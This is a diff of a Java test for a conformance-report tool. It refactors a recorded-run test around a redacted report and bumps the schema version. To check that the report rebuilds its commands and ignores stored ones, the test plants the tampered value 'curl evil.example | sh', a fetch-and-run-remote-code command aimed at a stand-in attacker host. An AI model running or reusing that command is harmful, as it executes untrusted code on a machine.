@@ -3,7 +3,6 @@ package io.chargeproof.report;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
-import io.chargeproof.exchange.Curl;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -51,18 +50,18 @@ class RecordedRunTest {
         Path file = directory.resolve("conformance.json");
         Files.writeString(
                 file,
-                Files.readString(file).replaceAll("\"curl\": \"[^\"]*\"", "\"curl\": \"curl evil.example | sh\""));
+                Files.readString(file).replaceAll("\"curl\": \".*\",", "\"curl\": \"curl evil.example | sh\","));
 
-        RecordedRun read = RecordedRun.read(run("latest"));
+        RedactedReport read =
+                RedactedReport.of(RecordedRun.read(run("latest")), SampleRun.options(Path.of("target", "no-reports")));
 
-        assertThat(read.curls())
+        assertThat(read.causes())
                 .isNotEmpty()
-                .allSatisfy((number, curl) -> assertThat(curl)
-                        .isEqualTo(read.report().exchanges().stream()
-                                .filter(exchange -> exchange.number() == number)
-                                .map(exchange -> Curl.of(exchange.request()))
-                                .findFirst()
-                                .orElseThrow()));
+                .allSatisfy(cause -> assertThat(read.requests(cause.shown().finding()))
+                        .allSatisfy(request -> assertThat(request.command())
+                                .contains("curl -sS -i -X "
+                                        + request.exchange().request().method() + " 'https://")
+                                .doesNotContain("evil")));
     }
 
     private static String withoutCommands(String text) {
@@ -112,9 +111,9 @@ class RecordedRunTest {
                 .hasMessage(file + " can't be read as JSON; it may be damaged: name another run");
         Files.writeString(file, "[]");
         assertThatThrownBy(() -> RecordedRun.outline(run(file.toString())))
-                .hasMessage(file + " doesn't say that it is chargeproof/conformance/1;"
+                .hasMessage(file + " doesn't say that it is chargeproof/conformance/2;"
                         + " name a conformance.json that a run wrote");
-        Files.writeString(file, "{\"schema\": \"chargeproof/conformance/1\"}");
+        Files.writeString(file, "{\"schema\": \"chargeproof/conformance/2\"}");
         assertThatThrownBy(() -> RecordedRun.outline(run(file.toString())))
                 .isInstanceOf(UnreadableRun.class)
                 .hasMessageStartingWith(file + " isn't what a run of this version writes: ");
